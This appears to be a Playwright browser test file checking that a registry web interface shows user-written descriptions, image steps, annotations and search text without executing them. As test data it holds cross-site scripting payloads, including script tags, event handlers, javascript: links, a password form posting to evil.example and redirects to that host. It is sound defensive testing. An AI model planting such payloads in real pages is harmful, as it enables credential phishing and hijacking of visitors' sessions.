"""User-written text is shown and never executed."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect
from tests.web.content import Content

pytestmark = pytest.mark.browser

ATTACK = "<script>window.hit = 1</script><img src=x onerror='window.hit = 1'>"
MARKDOWN = f"""# Title <b onclick="window.hit = 1">bold</b>

{ATTACK}

[link](javascript:window.hit=1) <a href="javascript:window.hit=1" id="click">raw</a> <svg onload="window.hit = 1"></svg>
<iframe srcdoc="{ATTACK}"></iframe> <form action="https://evil.example"><input name=password></form>
<style>body {{ display: none }}</style> <p style="position: fixed; inset: 0" class="alert">over everything</p>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">
"""


def test_descriptions_run_nothing(page: Page, content: Content) -> None:
    """A full description keeps its harmless parts; scripts, handlers, forms, frames and styles are removed."""
    short = "<script>window.hit=1</script><i>hi</i>"
    name = content.repository(content.account(), "reef", description=short, full_description=MARKDOWN)
    page.goto(f"{content.url}/{name}")
    page.wait_for_load_state("networkidle")

    assert page.evaluate("window.hit") is None
    expect(page.locator(".title p")).to_have_text(short)
    expect(page.locator(".prose b")).to_have_text("bold")
    expect(page.locator(".prose h1")).to_have_count(0)
    bad = page.locator("main :is(script, iframe, form, style, base, meta, svg[onload], [onclick], [onerror], [style])")
    assert bad.count() == 0
    assert page.locator('main [href^="javascript"]').count() == 0
    assert page.locator(".prose .alert").count() == 0


def test_images_run_nothing(page: Page, content: Content) -> None:
    """Steps and annotations of an image are always shown as text."""
    name = content.repository(content.account(), "wreck")
    content.image(name, "steps", steps=(ATTACK,))
    content.index(name, "notes", "amd64", **{ATTACK: ATTACK})
    page.goto(f"{content.url}/{name}:steps")
    expect(page.locator(".layer code")).to_have_text(ATTACK)
    page.goto(f"{content.url}/{name}:notes")
    expect(page.locator(".facts")).to_contain_text(ATTACK)

    assert page.evaluate("window.hit") is None


def test_search_words_run_nothing(page: Page, content: Content) -> None:
    """A search query is shown as it was typed."""
    page.goto(content.url)
    page.get_by_role("searchbox").fill(f'"{ATTACK}')
    page.get_by_role("button", name="Search").click()

    expect(page.get_by_role("heading", level=1)).to_contain_text(ATTACK)
    assert page.evaluate("window.hit") is None


def test_links_in_descriptions_are_untrusted(page: Page, content: Content) -> None:
    """User-written links pass on neither search ranking nor a reference to the opener."""
    text = "[out](https://elsewhere.example/)"
    name = content.repository(content.account(), "buoy", full_description=text)
    page.goto(f"{content.url}/{name}")

    expect(page.get_by_role("link", name="out")).to_have_attribute("rel", "nofollow noopener noreferrer ugc")
